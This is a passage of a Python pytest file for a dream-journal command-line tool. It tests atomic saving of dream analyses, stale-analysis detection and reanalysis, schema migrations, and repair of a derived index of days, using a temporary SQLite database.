# -- 6. analysis state (issue item "analysis that is silently stale") -----------------------------


def _die_in_analysis(db_path, *args):
    env = {**os.environ, "DREAMLY_DB": str(db_path)}
    return subprocess.run([PY, HELPERS / "die_in_analysis.py", *args], env=env, capture_output=True, text=True)


@pytest.mark.slow
def test_a_kill_while_writing_the_analysis_leaves_no_dream_without_it(cli, db_path):
    add(cli, "I was chased through the station, legs like concrete")
    before = json.loads(cli("show", "1", "--json").stdout)
    killed = _die_in_analysis(db_path, "add", "I was falling from a tower")
    assert killed.returncode == -9 and "writing the analysis" in killed.stdout
    killed = _die_in_analysis(db_path, "edit", "1", "--text", "I was flying over the sea")
    assert killed.returncode == -9 and "writing the analysis" in killed.stdout
    # text and analysis are one transaction: the kill took both, and check has nothing to report
    dreams = json.loads(cli("list", "--json").stdout)
    assert [d["id"] for d in dreams] == [1]
    after = json.loads(cli("show", "1", "--json").stdout)
    assert (after["body"], after["motifs"]) == (before["body"], before["motifs"])
    assert cli("check").exit_code == 0


def test_check_reports_dreams_without_analysis_and_reanalyze_finishes_them(cli, db_path):
    add(cli, "I was chased through the station, legs like concrete")
    add(cli, "I was falling")
    conn = sqlite3.connect(db_path)  # as a kill or a failed analysis before issue 18 left them
    with conn:
        conn.execute("DELETE FROM dream_analysis WHERE dream_id = 1")
        conn.execute("UPDATE dreams SET body = 'I was flying over the sea' WHERE id = 2")
    conn.close()
    result = cli("check")
    assert result.exit_code == 1
    assert "1 dream has no analysis" in result.stdout
    assert "1 dream has an analysis older than the text" in result.stdout
    assert "reanalyze" in result.stderr
    assert json.loads(cli("check", "--json").stdout)["ok"] is False
    assert cli("reanalyze").exit_code == 0
    assert cli("check").exit_code == 0
    assert "flying" in [m["motif"] for m in json.loads(cli("show", "2", "--json").stdout)["motifs"]]


def test_a_huge_dream_is_saved_at_once_with_its_analysis_deferred(cli, db_path):
    body = "I was chased down the corridor and my legs were heavy. " * 4000  # 220 KB
    result = cli("add", input=body)
    assert result.exit_code == 0, result.stderr
    assert "Saved dream 1" in result.stdout
    assert "analysed later" in result.stderr and "reanalyze" in result.stderr
    assert json.loads(cli("show", "1", "--json").stdout)["motifs"] == []
    assert cli("check").exit_code == 1
    assert cli("reanalyze").exit_code == 0
    assert json.loads(cli("show", "1", "--json").stdout)["motifs"]
    assert cli("check").exit_code == 0


def test_an_old_journal_gets_its_analysis_records_and_loses_nothing(cli, db_path):
    from tests.test_reliability import v1_journal

    v1_journal(db_path)
    assert cli("check").exit_code == 0  # dreams of a v1 journal count as analysed by their matcher
    rows = query(db_path, "SELECT dream_id, matcher_version FROM dream_analysis ORDER BY dream_id")
    assert [r[0] for r in rows] == [1, 2, 3]



def test_an_edit_racing_a_reanalyze_leaves_the_analysis_marked_stale(cli, db_path):
    """reanalyze read the old text; an edit changed it before reanalyze wrote: the analysis
    it writes records the text it analysed, so check sees it is older than the text."""
    from dreamly.analysis import MATCHER_VERSION, analyze
    from dreamly.store import open_journal

    add(cli, "I was chased through the station")
    old = analyze("I was chased through the station")
    assert cli("edit", "1", "--text", "I was flying over the sea").exit_code == 0
    with open_journal(db_path) as journal:
        journal.save_analyses([(1, old.motifs, old.emotion_ids(), "I was chased through the station")],
                              MATCHER_VERSION)
    result = cli("check")
    assert result.exit_code == 1 and "older than the text" in result.stdout
    assert cli("check", "--repair").exit_code == 0
    assert "flying" in [m["motif"] for m in json.loads(cli("show", "1", "--json").stdout)["motifs"]]


def test_a_previous_schema_journal_migrates_to_the_analysis_table_with_every_row(cli, db_path):
    from dreamly.store import schema

    add(cli, "I was chased through the station", "-t", "work")
    add(cli, "I was falling", "-e", "fear:3")
    conn = sqlite3.connect(db_path)
    with conn:  # back to schema 3, as the journal was before migration 4
        drop_schema_5(conn)
        conn.execute("DROP TABLE dream_analysis")
        conn.execute("PRAGMA user_version = 3")
    counts = {t: query(db_path, f"SELECT count(*) FROM {t}")[0][0]
              for t in ("dreams", "dream_tags", "dream_emotions", "dream_motifs")}
    conn.close()
    assert cli("check").exit_code == 0
    assert query(db_path, "PRAGMA user_version")[0][0] == schema.SCHEMA_VERSION
    assert {t: query(db_path, f"SELECT count(*) FROM {t}")[0][0] for t in counts} == counts
    assert [r[0] for r in query(db_path, "SELECT dream_id FROM dream_analysis ORDER BY 1")] == [1, 2]


def drop_schema_5(conn):
    for trigger in ("dream_days_insert", "dream_days_delete", "dream_days_move"):
        conn.execute(f"DROP TRIGGER {trigger}")
    conn.execute("DROP TABLE dream_days")


def test_a_schema_4_journal_gains_its_table_of_days_and_keeps_every_dream(cli, db_path):
    from dreamly.store import schema

    for day in ("2026-01-05", "2026-01-05", "2026-01-06"):
        add(cli, "I was chased through the station", "-d", day)
    conn = sqlite3.connect(db_path)
    with conn:  # back to schema 4, as the journal was before migration 5
        drop_schema_5(conn)
        conn.execute("PRAGMA user_version = 4")
    conn.close()
    assert cli("check").exit_code == 0
    assert query(db_path, "PRAGMA user_version")[0][0] == schema.SCHEMA_VERSION
    assert query(db_path, "SELECT count(*) FROM dreams")[0][0] == 3
    assert query(db_path, "SELECT day, dreams FROM dream_days ORDER BY day") == [("2026-01-05", 2), ("2026-01-06", 1)]
    # and the triggers keep it: a moved, a deleted and a new dream
    assert cli("edit", "3", "-d", "2026-01-04").exit_code == 0
    assert cli("delete", "1", "--yes").exit_code == 0
    add(cli, "I was flying", "-d", "2026-01-07")
    assert query(db_path, "SELECT day, dreams FROM dream_days ORDER BY day") == [
        ("2026-01-04", 1), ("2026-01-05", 1), ("2026-01-07", 1)]


def test_check_finds_and_repairs_an_index_of_days_out_of_step(cli, db_path):
    add(cli, "I was chased through the station", "-d", "2026-01-05")
    add(cli, "I was falling", "-d", "2026-01-06")
    conn = sqlite3.connect(db_path)
    with conn:  # a hand edit of the file that left the derived table behind
        conn.execute("DELETE FROM dream_days WHERE day = '2026-01-05'")
    conn.close()
    result = cli("check")
    assert result.exit_code == 1
    assert "the index of days with a dream (the recall streak's) is out of step with the dreams" in result.stdout
    assert cli("check", "--repair").exit_code == 0
    assert query(db_path, "SELECT day, dreams FROM dream_days ORDER BY day") == [("2026-01-05", 1), ("2026-01-06", 1)]
    assert cli("check").exit_code == 0


def test_salvage_of_a_sound_journal_reports_nothing_garbled(cli, db_path, tmp_path):
    # the table of days is filled by its triggers as the dreams go in; copying its rows too
    # counted every one as "garbled beyond use"
    for day in ("2026-01-05", "2026-01-05", "2026-01-06"):
        add(cli, "I was chased through the station", "-d", day)
    out = tmp_path / "salvaged.db"
    result = cli("salvage", out)
    assert result.exit_code == 0, result.stderr
    assert "garbled" not in result.stdout + result.stderr
    assert query(out, "SELECT day, dreams FROM dream_days ORDER BY day") == [("2026-01-05", 2), ("2026-01-06", 1)]
    assert cli("check", "--db", out).exit_code == 0
